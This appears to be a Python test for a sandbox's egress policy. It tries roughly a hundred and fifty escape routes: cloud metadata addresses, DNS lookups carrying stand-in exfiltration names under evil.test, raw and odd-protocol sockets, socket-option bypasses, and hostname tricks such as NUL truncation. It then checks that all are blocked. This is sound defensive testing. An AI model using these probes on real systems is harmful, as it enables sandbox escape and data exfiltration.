"""Ways out that no rule opens: each is tried with a real socket, and the world outside must not hear of it."""
import world
from machine import check

TRIES = r'''
import ctypes, errno, os, socket, struct, sys, time
LOOSE, SITES, SITES6, MACHINE = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
def told(name, call):
    try:
        got = call()
        print('%-28s %s' % (name, 'OPEN %r' % (got,) if got else 'held: nothing'))
    except Exception as e:
        print('%-28s held: %s %s' % (name, type(e).__name__, e))
def tcp(host, port, family=socket.AF_INET, prepare=None, say=b'GET / HTTP/1.0\r\n\r\n'):
    def run():
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
        if prepare: prepare(s)
        s.connect((host, port)); s.sendall(say); return s.recv(64)
    return run
def udp(host, port, family=socket.AF_INET, say=b'x' * 20):
    def run():
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.connect((host, port)); s.send(say); return s.recv(512)
    return run
QUERY = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\4leak\4evil\4test\0\0\1\0\1'
for name, host in (('literal', SITES), ('machine itself', MACHINE), ('gateway of the machine', LOOSE), ('private', '10.77.0.1'), ('link-local', '169.254.169.254'),
                   ('cgnat metadata', '100.100.100.200'), ('azure', '168.63.129.16'), ('this host', '0.0.0.0'), ('limited broadcast', '255.255.255.255'),
                   ('multicast', '224.0.0.251'), ('reserved', '240.0.0.1'), ('unassigned synthetic', '198.19.255.254'), ('benchmark', '198.18.0.0')):
    for port in (80, 443, 22, 53, 853):
        told('tcp %s %d' % (name, port), tcp(host, port))
    told('udp ' + name, udp(host, 443)); told('dns ' + name, udp(host, 53, say=QUERY))
for name, host in (('literal6', SITES6), ('mapped', '::ffff:' + SITES), ('mapped loopback', '::ffff:127.0.0.1'), ('nat64', '64:ff9b::' + SITES), ('6to4', '2002:2c0a:101::1'),
                   ('unspecified', '::'), ('link-local', 'fe80::1'), ('site-local', 'fec0::1'), ('ula', 'fd00:ec2::254'), ('multicast', 'ff02::fb'), ('compatible', '::44.10.1.1')):
    told('tcp6 ' + name, tcp(host, 80, socket.AF_INET6)); told('udp6 ' + name, udp(host, 53, socket.AF_INET6, QUERY))
resolver = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
for port in (80, 443, 22, 5353): told('tcp our gateway %d' % port, tcp(resolver, port))
told('udp our gateway', udp(resolver, 5353)); told('dns name in http', tcp(resolver, 53, say=b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'))
def bind_device(s): s.setsockopt(socket.SOL_SOCKET, 25, b'lo')
def transparent(s): s.setsockopt(0, 19, 1); s.bind((MACHINE, 0))
def freebind(s): s.setsockopt(0, 15, 1); s.bind((MACHINE, 0))
def mark(s): s.setsockopt(socket.SOL_SOCKET, 36, 1)
def route(s): s.setsockopt(0, 4, b'\x83\x07\x04' + socket.inet_aton(SITES) + b'\0')
for name, prepare in (('bind to device', bind_device), ('transparent', transparent), ('freebind', freebind), ('mark', mark), ('source route', route)):
    told('tcp ' + name, tcp(SITES, 80, prepare=prepare))
for name, args in (('raw', (2, 3, 255)), ('raw6', (10, 3, 58)), ('ping', (2, 2, 1)), ('ping6', (10, 2, 58)), ('packet', (17, 3, 768)), ('sctp', (2, 1, 132)), ('dccp', (2, 6, 33)),
                   ('udplite', (2, 2, 136)), ('mptcp', (2, 1, 262)), ('vsock', (40, 1, 0)), ('alg', (38, 5, 0)), ('bluetooth', (31, 3, 0)), ('can', (29, 3, 1)), ('netlink route', (16, 3, 0)),
                   ('netlink diag', (16, 3, 4)), ('netlink audit', (16, 3, 9)), ('xdp', (44, 3, 0)), ('tipc', (30, 1, 0)), ('rds', (21, 5, 0)), ('smc', (43, 1, 0)), ('x25', (9, 5, 0))):
    def make(args=args, name=name):
        s = socket.socket(*args)
        if name == 'mptcp':
            s.settimeout(3); s.connect((SITES, 80)); s.sendall(b'GET / HTTP/1.0\r\n\r\n'); return s.recv(64)
        if name.startswith('netlink') or name in ('sctp', 'dccp', 'udplite'): return None
        s.settimeout(1)
        if name == 'ping':
            s.connect((SITES, 0)); s.send(b'\x08\0\0\0\0\0\0\1ping'); return s.recv(64)
        return 'a socket'
    told('socket ' + name, make)
def fastopen():
    s = socket.socket(); s.settimeout(3); s.sendto(b'GET / HTTP/1.0\r\n\r\n', 0x20000000, (SITES, 80)); return s.recv(64)
told('tcp fast open', fastopen)
def unconnected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    for host in (SITES, '8.8.8.8', '224.0.0.251', '255.255.255.255'):
        try: s.sendto(QUERY, (host, 53))
        except OSError: pass
    return s.recv(512)
told('udp unconnected', unconnected)
def large():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((SITES, 443)); s.send(b'x' * 65000); return s.recv(10)
told('udp fragments', large)
for name in ('leak.denied.test', 'secret-' + 'a' * 50 + '.evil.test', 'localhost', 'localhost.localdomain', 'metadata.google.internal', 'host.osh.internal', 'host.docker.internal', 'kubernetes.default.svc',
             SITES.replace('.', '-') + '.nip.test', '0x2c0a0101', '739901697', '44.10.257', 'other.test.', 'xn--other-.test', 'other\u3002test', 'OTHER.test\x00.evil.test'):
    def look(name=name):
        found = socket.getaddrinfo(name, 80, 0, socket.SOCK_STREAM)
        s = socket.create_connection(found[0][4][:2], 3); s.sendall(b'GET /found HTTP/1.0\r\nHost: x\r\n\r\n'); return s.recv(64)
    told('name %r' % name[:24], look)
print('DONE')
'''


def no_way_out(m):
    """A hundred and fifty ways: literals, odd addresses, other protocols, socket options, names; nothing arrives anywhere."""
    done = m.inside('python3', '-c', TRIES, world.INTERNET, world.SITES, world.SITES6, world.MACHINE, timeout=300)
    check(done.out.endswith('DONE\n'), done)
    lines = [x for x in done.out.splitlines() if ' OPEN ' in x]
    # With its last dot, its ideographic one, or up to its NUL this is the name that the policy allows.
    lines = [x for x in lines if not x.startswith(("name 'other.test.'", "name 'other\u3002test'", "name 'OTHER.test\\x00")) and '403' not in x and '421' not in x and 'policy_denied' not in x]
    check(not lines, '\n'.join(lines))
    check(not [h for h in m.hits(kind='dns') if h['name'] != 'other.test'], m.hits(kind='dns'))
    check(not [h for h in m.hits(kind='request') if h['path'] != '/found'], m.hits(kind='request'))


CASES = [no_way_out]
